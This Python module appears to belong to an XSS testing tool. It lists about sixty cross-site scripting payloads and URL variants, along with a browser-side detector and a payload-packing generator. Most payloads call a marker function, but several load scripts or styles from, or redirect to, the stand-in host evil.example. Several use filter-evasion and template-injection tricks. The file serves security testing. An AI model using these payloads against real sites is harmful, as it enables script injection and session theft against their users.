"""Sixty ways of getting a page to run what somebody typed.

Each calls `__xss`, or leaves an element with `data-xss`, or would show the product of two primes.
"""

from collections.abc import Iterator
from itertools import cycle, islice

PRODUCT = str(7919 * 7907)

PAYLOADS = [
    # Elements that run by themselves
    "<script data-xss>__xss()</script>",
    "<ScRiPt data-xss>__xss()</sCrIpT>",
    "<script data-xss src=//evil.example/x.js></script>",
    "<script data-xss type=module>__xss()</script>",
    "<img data-xss src=x onerror=__xss()>",
    "<img data-xss src=x onerror='__xss()'//",
    "<IMG DATA-XSS SRC=x OnErRoR=__xss()>",
    "<img/data-xss/src=x/onerror=__xss()>",
    "<svg data-xss onload=__xss()>",
    "<svg data-xss><script>__xss()</script></svg>",
    "<svg data-xss><animate onbegin=__xss() attributeName=x></svg>",
    "<svg data-xss><a href='javascript:__xss()'><text y=9>x</text></a></svg>",
    "<math data-xss><mtext><img src=x onerror=__xss()></mtext></math>",
    "<body data-xss onload=__xss()>",
    "<iframe data-xss src='javascript:parent.__xss()'></iframe>",
    '<iframe data-xss srcdoc="<script>parent.__xss()</script>"></iframe>',
    "<object data-xss data='javascript:__xss()'></object>",
    "<embed data-xss src='javascript:__xss()'>",
    "<video data-xss><source onerror=__xss()></video>",
    "<audio data-xss src=x onerror=__xss()></audio>",
    "<details data-xss open ontoggle=__xss()>x</details>",
    "<input data-xss autofocus onfocus=__xss()>",
    "<select data-xss autofocus onfocus=__xss()></select>",
    "<marquee data-xss onstart=__xss()>x</marquee>",
    "<style data-xss>@import '//evil.example/x.css';</style>",
    "<link data-xss rel=stylesheet href=//evil.example/x.css>",
    "<meta data-xss http-equiv=refresh content='0;url=//evil.example/'>",
    "<base data-xss href=//evil.example/>",
    "<form data-xss action=//evil.example/><button>x</button></form>",
    "<x-y data-xss style=animation-name:x onanimationstart=__xss()>",
    # Out of an attribute, a script, a comment, a text area
    '" data-xss onmouseover=__xss() x="',
    "' data-xss onmouseover=__xss() x='",
    '"><img data-xss src=x onerror=__xss()>',
    "'><img data-xss src=x onerror=__xss()>",
    '" autofocus onfocus=__xss() data-xss="',
    "</script><script data-xss>__xss()</script>",
    "</textarea><img data-xss src=x onerror=__xss()>",
    "</title><img data-xss src=x onerror=__xss()>",
    "</style><img data-xss src=x onerror=__xss()>",
    "--><img data-xss src=x onerror=__xss()><!--",
    "]]><img data-xss src=x onerror=__xss()>",
    "';__xss();//",
    '";__xss();//',
    "\\';__xss();//",
    "`;__xss();//",
    # Expressions of templates and of Alpine
    "${7919*7907}${__xss()}",
    "{{7919*7907}}{{__xss()}}",
    "{% widthratio 7919 1 7907 %}{% debug %}",
    "#{7919*7907}<%= 7919*7907 %>",
    "{{constructor.constructor('__xss()')()}}",
    '" x-data="{}" x-init="__xss()" data-xss="',
    "<div data-xss x-data x-init=__xss()></div>",
    "'+__xss()+'",
    '"}; __xss(); x={a:"',
    # Addresses, entities, mutations
    "javascript:__xss()",
    "[x](javascript:__xss())",
    "&lt;img data-xss src=x onerror=__xss()&gt;",
    "&#60;img data-xss src=x onerror=__xss()&#62;",
    "<noscript><p title='</noscript><img data-xss src=x onerror=__xss()>'>",
    "\u202e<b data-xss onclick=__xss()>\u2028x\ufeff</b>",
]

ADDRESSES = [
    *("javascript:__xss()", "JaVaScRiPt:__xss()", "java\nscript:__xss()", " javascript:__xss()"),
    *("data:text/html,<script>__xss()</script>", "vbscript:__xss()", "//evil.example/"),
]

# Gives what has got into the page, although it did not run (yet).
FOUND = """(product) => {
  const found = [];
  for (const element of document.querySelectorAll("*")) {
    if (element.hasAttribute("data-xss")) found.push("element " + element.outerHTML);
    for (const { name, value } of element.attributes) {
      const live = /^(x-|@|:|on|style$)/.test(name) && value.includes("__xss");
      const leads = ["href", "src", "action", "formaction", "data", "srcdoc", "xlink:href"]
        .includes(name) && /^[\\s\\u0000-\\u0020]*(javascript|vbscript|data:text)/i.test(value);
      if (live || leads) found.push(`attribute ${name}=${value}`);
    }
    if (["SCRIPT", "STYLE"].includes(element.tagName) && !/json/.test(element.type)
      && element.textContent.includes("__xss")) found.push("inside a script");
  }
  if (document.body.innerText.includes(product)) found.push("an expression was evaluated");
  return found.map((line) => line.slice(0, 200));
}"""


def packs(longest: int, start: int) -> Iterator[str]:
    """Endlessly: as many payloads as fit into `longest` characters, beginning at `start`."""
    fitting = [payload for payload in PAYLOADS if len(payload) <= longest]
    supply = cycle(fitting)
    following = next(islice(supply, start % len(fitting), None))
    while True:
        pack = following
        while len(pack) + 1 + len(following := next(supply)) <= longest and pack.count("xss") < 70:
            pack += " " + following
        yield pack
